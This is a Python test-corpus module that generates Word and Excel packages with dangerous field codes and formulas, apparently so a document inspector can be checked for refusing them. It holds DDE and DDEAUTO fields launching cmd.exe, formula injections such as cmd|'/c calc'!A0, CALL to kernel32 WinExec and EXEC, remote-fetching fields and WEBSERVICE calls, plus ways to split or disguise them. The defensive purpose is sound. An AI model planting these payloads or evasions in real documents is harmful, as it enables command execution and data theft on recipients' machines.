"""Documents with fields and sheets with formulas that must be refused, however they are written."""

from collections.abc import Callable, Mapping

from app.inspection.reasons import Reason
from tests.corpus import Hostile
from tests.corpus.packages import RID, SHEET, package
from tests.corpus.relationships import WEB


def runs(*pieces: str, tag: str = "instrText") -> str:
    """Write a field whose code is split over runs."""
    inside = "".join(f"<w:r><w:{tag}>{piece}</w:{tag}></w:r><w:r><w:rPr/></w:r>" for piece in pieces)
    mark = '<w:r><w:fldChar w:fldCharType="%s"/></w:r>'
    return f"<w:p>{mark % 'begin'}{inside}{mark % 'separate'}<w:r><w:t>x</w:t></w:r>{mark % 'end'}</w:p>"


CODES: Mapping[str, tuple[str, Reason]] = {
    "DDE": ('DDE Excel "C:\\\\a.xls" R1C1', Reason.ACTION),
    "DDEAUTO": ("DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe x", Reason.ACTION),
    "ddeauto": ("  ddeauto  cmd x", Reason.ACTION),
    "INCLUDEPICTURE": (f'INCLUDEPICTURE "{WEB}" \\d', Reason.OUTSIDE),
    "INCLUDETEXT": (f'INCLUDETEXT "{WEB}"', Reason.OUTSIDE),
    "IMPORT": (f"IMPORT {WEB}", Reason.OUTSIDE),
    "LINK": ('LINK Excel.Sheet.12 "\\\\\\\\server\\\\a.xlsx" S!A \\a', Reason.OUTSIDE),
    "RD": (f"RD {WEB}", Reason.OUTSIDE),
    "DATABASE": ('DATABASE \\c "DSN=x" \\s "SELECT 1"', Reason.OUTSIDE),
    "EMBED": ("EMBED Package", Reason.OUTSIDE),
    "PRINT": ("PRINT 27", Reason.ACTION),
    "HTMLCONTROL": ("HTMLCONTROL Forms.HTML:Image.1", Reason.ACTION),
    "HYPERLINK to a file": ('HYPERLINK "file:///c:\\\\a.exe"', Reason.OUTSIDE),
    "HYPERLINK to a share": ('HYPERLINK \\o "x" \\\\\\\\server\\\\a', Reason.OUTSIDE),
    "HYPERLINK to a script": ('HYPERLINK \\l "x" "javascript:alert(1)"', Reason.OUTSIDE),
}
WRITTEN: Mapping[str, Callable[[str], str]] = {
    "in one run": runs,
    "letter by letter": lambda code: runs(*code),
    "in two halves": lambda code: runs(code[:4], code[4:]),
    "in runs of plain text": lambda code: runs(code[:3], code[3:], tag="t"),
    "deleted": lambda code: runs(code[:2], code[2:], tag="delInstrText"),
    "as a simple field": lambda code: f"<w:p><w:fldSimple w:instr='{code}'/></w:p>",
    "without an end": lambda code: (
        f'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>{code}</w:instrText></w:r></w:p>'
    ),
    "within another": lambda code: (
        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>IF 1 = 1 </w:instrText></w:r>'
        + runs(code)
        + '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
    ),
}
FORMULAS: Mapping[str, tuple[str, Reason]] = {
    "WEBSERVICE": ('_xlfn.WEBSERVICE("https://example.org/"&amp;A1)', Reason.OUTSIDE),
    "webservice": ('webservice ("https://example.org")', Reason.OUTSIDE),
    "WEBSERVICE by another name": (
        '_xlfn.LET(_xlpm.f,_xleta.WEBSERVICE,_xlpm.f("https://example.org"))',
        Reason.OUTSIDE,
    ),
    "IMAGE": ('_xlfn.IMAGE("https://example.org/a.png")', Reason.OUTSIDE),
    "RTD": ('RTD("x","server","y")', Reason.OUTSIDE),
    "a question to a cube": ('CUBEVALUE("x","y")', Reason.OUTSIDE),
    "a sheet of the web": ("'https://example.org/[a.xlsx]S'!A1", Reason.OUTSIDE),
    "a sheet on a share": ("'\\\\server\\x\\[a.xlsx]S'!A1", Reason.OUTSIDE),
    "DDE": ("cmd|'/c calc'!A0", Reason.ACTION),
    "a function of a library": ('CALL("kernel32","WinExec","JCJ","calc",0)', Reason.ACTION),
    "an old macro": ('EXEC("calc")', Reason.ACTION),
    "a link to a file": ('HYPERLINK("file:///c:/a.exe","x")', Reason.OUTSIDE),
    "a link to a share, in pieces": ('HYPERLINK("\\\\ser"&amp;"ver\\a","x")', Reason.OUTSIDE),
    "a link that is computed": ("HYPERLINK(CHAR(102)&amp;A1)", Reason.OUTSIDE),
}
_WS = f'<worksheet xmlns="{SHEET}" {RID}>%s</worksheet>'
PLACED: Mapping[str, str] = {
    "of a cell": "<sheetData><row><c><f>%s</f></c></row></sheetData>",
    "of a rule of formats": "<conditionalFormatting><cfRule><formula>%s</formula></cfRule></conditionalFormatting>",
    "of a check of values": "<dataValidation><formula1>%s</formula1></dataValidation>",
    "of a name": "<definedNames><definedName name='x'>%s</definedName></definedNames>",
    "of a column of a table": "<tableColumn><calculatedColumnFormula>%s</calculatedColumnFormula></tableColumn>",
}


def sheet(inside: str, *, name: str = "xl/worksheets/sheet1.xml", **options: object) -> bytes:
    """Make a sheet whose first part of cells holds something."""
    return package("xlsx", main="xl/workbook.xml", parts={name: (_WS % inside).encode()}, **options)  # type: ignore[arg-type]


def hostile() -> Hostile:
    """Make every one."""
    made: Hostile = {}
    for code, (written, reason) in CODES.items():
        for manner, write in WRITTEN.items():
            made[f"a document with the field {code} {manner}"] = ("docx", package(body=write(written)), reason)
    for formula, (written, reason) in FORMULAS.items():
        for place, around in PLACED.items():
            made[f"a sheet with {formula} in the formula {place}"] = ("xlsx", sheet(around % written), reason)
    return made
